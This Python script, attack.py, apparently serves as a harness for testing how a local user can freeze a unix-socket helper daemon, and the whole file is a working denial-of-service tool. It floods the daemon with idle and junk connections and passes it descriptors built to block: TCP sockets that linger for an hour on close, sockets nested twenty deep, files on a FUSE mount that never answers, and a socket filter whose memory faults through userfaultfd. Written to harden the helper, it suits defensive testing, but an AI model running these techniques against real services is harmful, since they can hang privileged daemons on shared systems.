# SPDX-License-Identifier: MIT
"""What a local user can send to freeze a helper: attack.py SOCKET KIND COUNT

SOCKET is the helper's path, or @ and the path for the abstract name derived from it. Prints how many
were sent, and keeps everything open until it is killed.

    empty       COUNT connections that say nothing
    linger      COUNT requests that carry a TCP socket whose close lingers (SO_LINGER, unsent data)
    many        the same, a hundred of them in each request
    nested      the same, each at the bottom of twenty unix sockets, one in the queue of the next
    junk        COUNT connections with bytes that are not a request, one after the other
    close       like linger, but the connection is closed at once
    fuse        COUNT requests that carry a file whose file system never answers (needs root)
    lock        COUNT connects to 127.0.0.1:PORT, the last argument, whose socket this program keeps
                locked: it attaches a filter whose memory faults (needs root, then runs as nobody)
    slow        COUNT connects that nobody will answer, whose descriptor is not the one that the
                request names, among COUNT * 20 others of this program
"""

import array
import ctypes
import fcntl
import os
import resource
import socket
import struct
import sys
import threading
import time

SOCKET, KIND, COUNT = sys.argv[1], sys.argv[2], int(sys.argv[3])
PORT = int(sys.argv[4]) if len(sys.argv) > 4 else 1
GATE = 2 * (3000 - 64)
kept = []


def abstract_name(path):
    h = 0xCBF29CE484222325
    for c in path.encode():
        h = ((h ^ c) * 0x100000001B3) & (2**64 - 1)
    return "\0smuxshim-helper/%016x" % h


def connect():
    s = socket.socket(socket.AF_UNIX)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 3000)
    s.connect(abstract_name(SOCKET[1:]) if SOCKET[0] == "@" else SOCKET)
    return s


def request(number):
    dest = struct.pack("=HHI", socket.AF_INET, PORT, 0) + socket.inet_aton("127.0.0.1") + bytes(12)
    head = struct.pack("=IHHQHHHHII", 0x58554D53, 1, 80, number + os.getpid() << 32, 1, 0, socket.AF_INET, 0, 0, 1)
    return (head + dest + bytes(24)).ljust(GATE, b"\0")


def send(s, message, fds):
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))]
    s.setblocking(False)
    s.sendmsg([message], rights)


listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)
listener.bind(("127.0.0.1", 0))
listener.listen(4096)


def lingering():
    """A TCP socket whose close waits for an hour."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65536)
    s.connect(listener.getsockname())
    kept.append(listener.accept()[0])
    s.setblocking(False)
    s.send(bytes(50000))  # far more than the other end takes
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
    return s.detach()


def nested(depth):
    fd = lingering()
    for _ in range(depth):
        a, b = socket.socketpair()
        a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
        os.close(fd)
        a.close()
        fd = b.detach()
    return fd


def silent_file():
    """The root of a file system that nobody serves: fstat waits forever."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.unshare(0x00020000)  # CLONE_NEWNS
    libc.mount(b"none", b"/", None, 0x44000, None)  # MS_REC | MS_PRIVATE
    device = os.open("/dev/fuse", os.O_RDWR)
    kept.append(device)
    options = b"fd=%d,rootmode=40000,user_id=0,group_id=0" % device
    if libc.mount(b"silent", b"/mnt", b"fuse", 0, options) != 0:
        sys.exit("mount: " + os.strerror(ctypes.get_errno()))
    return os.open("/mnt", os.O_PATH)


def faulting_memory(libc):
    """The address of a page that is never filled: every reader waits."""
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    page = libc.mmap(None, 4096, 3, 0x22, -1, 0)  # PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS
    uffd = libc.syscall(323, os.O_CLOEXEC)  # userfaultfd
    if uffd < 0:
        sys.exit("userfaultfd: " + os.strerror(ctypes.get_errno()))
    kept.append(uffd)
    fcntl.ioctl(uffd, 0xC018AA3F, struct.pack("=QQQ", 0xAA, 0, 0))  # UFFDIO_API
    fcntl.ioctl(uffd, 0xC020AA00, struct.pack("=QQQQ", page, 4096, 1, 0))  # UFFDIO_REGISTER, missing pages
    return page


def lock():
    libc = ctypes.CDLL(None, use_errno=True)
    program = struct.pack("=H6xQ", 1, faulting_memory(libc))
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)
    for i in range(COUNT):
        s = connect()
        attach = threading.Thread(target=libc.setsockopt, args=(s.fileno(), 1, 26, program, 16), daemon=True)
        attach.start()  # SOL_SOCKET, SO_ATTACH_FILTER
        kept.append(s)
    time.sleep(0.5)
    for i, s in enumerate(kept[1:]):
        threading.Thread(target=send, args=(s, request(i), [s.fileno()]), daemon=True).start()
    time.sleep(0.5)
    return COUNT


def let_go(fd):
    """The close may linger here if the helper has closed its copy first."""
    threading.Thread(target=os.close, args=(fd,), daemon=True).start()


def finish(s, number):
    """The second half of the request; whoever got the first half holds the descriptors by now."""
    try:
        s.send(request(number)[40:])
    except OSError:
        pass
    if KIND == "close":
        s.close()
    else:
        kept.append(s)


def send_descriptors(make, each):
    """Sends requests with the last copies of what `make` creates."""
    begun = []
    for i in range(COUNT):
        fds = [make() for _ in range(each)]
        try:
            s = connect()
            send(s, request(i)[:40], fds)
            begun.append((s, i))
        except OSError:  # refused before the request was sent, or the backlog is full
            pass
        for fd in fds:
            let_go(fd)
    time.sleep(0.1)
    for s, i in begun:
        finish(s, i)
    return len(begun)


def empty():
    sent = 0
    for _ in range(COUNT):
        for _ in range(200):
            try:
                kept.append(connect())
                sent += 1
                break
            except BlockingIOError:
                time.sleep(0.01)
            except OSError:
                break
    return sent


def junk():
    for _ in range(COUNT):
        with connect() as s:
            try:
                s.sendall(b"no request" * 8)
                s.recv(1)
            except OSError:
                pass
    return COUNT


def slow():
    kept.extend(os.open("/dev/null", os.O_RDONLY) for _ in range(COUNT * 20))
    for i in range(COUNT):
        s = connect()
        send(s, request(i), [s.fileno()])
        kept.append(s)
    return COUNT


hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
if KIND == "empty":
    done = empty()
elif KIND == "junk":
    done = junk()
elif KIND == "lock":
    done = lock()
elif KIND == "slow":
    done = slow()
elif KIND == "fuse":
    silent = silent_file()
    done = send_descriptors(lambda: os.dup(silent), 1)
elif KIND == "nested":
    done = send_descriptors(lambda: nested(20), 1)
else:
    done = send_descriptors(lingering, 100 if KIND == "many" else 1)
print(done, "sent", flush=True)
time.sleep(1000)
